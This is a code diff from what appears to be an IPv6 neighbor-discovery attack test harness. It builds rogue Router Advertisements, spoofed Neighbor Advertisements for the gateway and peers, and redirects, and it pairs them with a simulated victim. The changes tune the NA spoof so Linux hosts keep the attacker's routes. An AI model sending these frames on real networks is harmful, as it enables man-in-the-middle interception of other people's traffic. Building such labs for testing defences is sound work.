@@ -141,8 +141,10 @@ std::vector<wire::Bytes> attack_frames(std::string_view a, const AttackParties& 
                             kUnicastHopLimit};
   };
   auto own_global = [&] { return global(need(p.attacker_address, a, "the attacker's global address")); };
-  auto spoofed_na = [&](const wire::Ip6& target) {
-    return wire::build_na(link, wire::NeighborAdvert{false, false, true, target, p.attacker_mac, {}});
+  // Router flag as the impersonated host has it: an NA clearing it for the gateway would make
+  // Linux drop every route via the NA's sender, the rogue RA's among them.
+  auto spoofed_na = [&](const wire::Ip6& target, bool router) {
+    return wire::build_na(link, wire::NeighborAdvert{router, false, true, target, p.attacker_mac, {}});
   };
 
   if (is(a, id::kRogueRa)) return {wire::build_ra(link, rogue_ra(p))};
@@ -166,8 +168,8 @@ std::vector<wire::Bytes> attack_frames(std::string_view a, const AttackParties& 
     addressing.src_mac = kSpoofedMac;
     return {wire::build_ns(addressing, wire::NeighborSolicit{p.victim_link_local, kSpoofedMac, {}})};
   }
-  if (is(a, id::kNaSpoofGateway)) return {spoofed_na(need(p.gateway, a, "the gateway's address"))};
-  if (is(a, id::kNaSpoofPeer)) return {spoofed_na(p.victim_address.value_or(p.victim_link_local))};
+  if (is(a, id::kNaSpoofGateway)) return {spoofed_na(need(p.gateway, a, "the gateway's address"), true)};
+  if (is(a, id::kNaSpoofPeer)) return {spoofed_na(p.victim_address.value_or(p.victim_link_local), false)};
   if (is(a, id::kRedirect))
     return {wire::build_redirect(link, wire::Redirect{p.attacker_link_local, rogue_host(kRogueHost), p.attacker_mac, 0})};
   if (is(a, id::kUnsolicitedEcho))
@@ -381,10 +383,11 @@ wire::VictimResult victim(Link& link, const VictimOptions& o) {
                              wire::NeighborSolicit{*p.gateway, p.victim_mac, {}}));
     ++r.ns_sent;
   };
-  announce();
+  // The gateway answers before anyone is told to attack: its solicited NA (override set) landing
+  // after a spoofed one would restore our kernel's entry and hide the spoof.
   solicit_router();
   solicit_gateway();
-  auto next_announce = Clock::now() + kAnnounceInterval;
+  auto next_announce = Clock::now();
   auto next_ns = Clock::now() + kNsRetry;
   auto next_rs = Clock::now() + kRsRetry;
   std::optional<Clock::time_point> done_at;
@@ -393,8 +396,8 @@ wire::VictimResult victim(Link& link, const VictimOptions& o) {
   auto finished = [&] { return done_at && Clock::now() >= *done_at + o.linger && r.ras > 0 && r.nas > 0; };
   while (Clock::now() < deadline && !finished()) {
     auto now = Clock::now();
-    const bool announcing = !r.attacker_started;
-    const bool resolving = r.nas == 0 && p.gateway && static_cast<int>(r.ns_sent) < kNsAttempts;
+    const bool resolving = r.nas == 0 && p.gateway && (static_cast<int>(r.ns_sent) < kNsAttempts || now < next_ns);
+    const bool announcing = !r.attacker_started && !resolving;
     const bool soliciting = r.ras == 0 && static_cast<int>(r.rs_sent) < kRsAttempts;
     if (announcing && now >= next_announce) {
       announce();
